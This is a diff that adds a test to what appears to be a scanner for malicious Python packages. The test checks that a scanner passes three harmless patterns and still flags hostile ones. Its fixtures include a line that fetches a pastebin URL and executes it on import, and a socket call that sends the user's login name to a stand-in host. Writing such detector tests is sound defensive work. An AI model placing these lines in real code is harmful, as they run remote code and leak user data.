@@ -798,3 +798,34 @@ def test_fifth_held_out_batch_python_shapes() -> None:
         pkg = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": f"from . import {rel[10:-3]}\n",
                                          rel: code})
         assert verdict(pkg)[0] != "clean", rel
+
+
+def test_held_out_leftovers_data_urls_root_scripts_and_unix_sockets() -> None:
+    """Three false positives left from the earlier held-out batches: a paste URL in a test fixture's data
+    (softlayer) and a file-hosting site in a table of refused sites (yt-dlp), a maintainer's bootstrap
+    script beside setup.py that runs pip (hashring), and a readiness probe on a local Unix socket whose
+    path comes from settings (py-pglite)."""
+    fixture = "SCALE_GROUP = {'postInstallScriptUri': 'https://pastebin.com/raw/62wrEKuW', 'id': 12}\n"
+    probe = ("import os, socket\n\nclass Manager:\n    def __init__(self):\n"
+             "        self.dir = os.environ.copy().get('PGDATA', '/tmp')\n\n    def ready(self):\n"
+             "        s = socket.socket(socket.AF_UNIX)\n        s.connect(str(self.dir + '/.s.PGSQL.5432'))\n")
+    bootstrap = "import subprocess\nsubprocess.check_call(['.tox/configure/bin/pip', 'install', 'jinja2', 'matrix'])\n"
+    setup = ("from glob import glob\nfrom setuptools import setup, find_packages\n"
+             "setup(name='helperlib', version='0.1', packages=find_packages('src'), package_dir={'': 'src'},\n"
+             "      py_modules=[p[4:-3] for p in glob('src/*.py')])\n")
+    cases = [{"helperlib/fixtures.py": fixture}, {"helperlib/manager.py": probe},
+             {"bootstrap.py": bootstrap, "setup.py": setup, "src/helperlib/__init__.py": ""}]
+    for files in cases:
+        pkg = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "from . import *\n", **files})
+        result, findings = verdict(pkg)
+        assert result == "clean", (files, findings)
+    # the same address fetched on import, a socket address built from data, and a root module the build
+    # installs are still judged
+    fetched = "import urllib.request\nexec(urllib.request.urlopen('https://pastebin.com/raw/62wrEKuW').read())\n"
+    sent = ("import socket, getpass\ns = socket.socket()\ns.connect((getpass.getuser() + '.x.example', 80))\n")
+    named = _SETUP.replace("packages=['helperlib']", "packages=['helperlib'], py_modules=['bootstrap']")
+    for files in ({"helperlib/fixtures.py": fetched}, {"helperlib/manager.py": sent},
+                  {"bootstrap.py": bootstrap, "setup.py": named}):
+        init = "" if "bootstrap.py" in files else "from . import fixtures, manager\n"
+        pkg = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init, **files})
+        assert verdict(pkg)[0] != "clean", files
